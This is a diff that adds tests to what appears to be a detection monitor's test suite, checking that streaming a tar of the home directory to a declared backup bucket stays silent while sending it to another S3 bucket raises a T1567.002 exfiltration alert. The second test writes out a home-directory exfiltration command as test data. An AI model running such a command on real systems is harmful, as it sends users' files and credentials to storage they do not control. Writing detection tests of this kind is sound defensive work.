@@ -302,6 +302,21 @@ def test_aws_s3_cp_of_the_credentials_to_another_bucket_alerts(monitor, home, st
     assert_alert_here(monitor, home, "T1567.002")
 
 
+def test_tar_of_home_streamed_to_the_declared_bucket_is_silent(monitor, home, storage, tmp_path):
+    run("tar czf - -C $HOME --exclude=build . | /usr/bin/aws s3 cp - s3://own-backups/nightly/home.tgz",
+        home, storage, tmp_path, AWS_CA_BUNDLE=str(storage.cert))
+    uploaded(storage, "PUT", "nightly/home.tgz")
+    wait_for_flow(monitor, storage, "amazonaws.com")
+    assert_silent_here(monitor, home)
+
+
+def test_tar_of_home_streamed_to_another_bucket_alerts(monitor, home, storage, tmp_path):
+    run("tar czf - -C $HOME --exclude=build . | /usr/bin/aws s3 cp - s3://other-bucket/home.tgz",
+        home, storage, tmp_path, AWS_CA_BUNDLE=str(storage.cert))
+    uploaded(storage, "PUT", "/home.tgz")
+    assert_alert_here(monitor, home, "T1567.002")
+
+
 # --- gh with its hosts.yml token ----------------------------------------------------------------
 
 def test_gh_posting_a_ci_status_is_silent(monitor, home, storage, tmp_path):
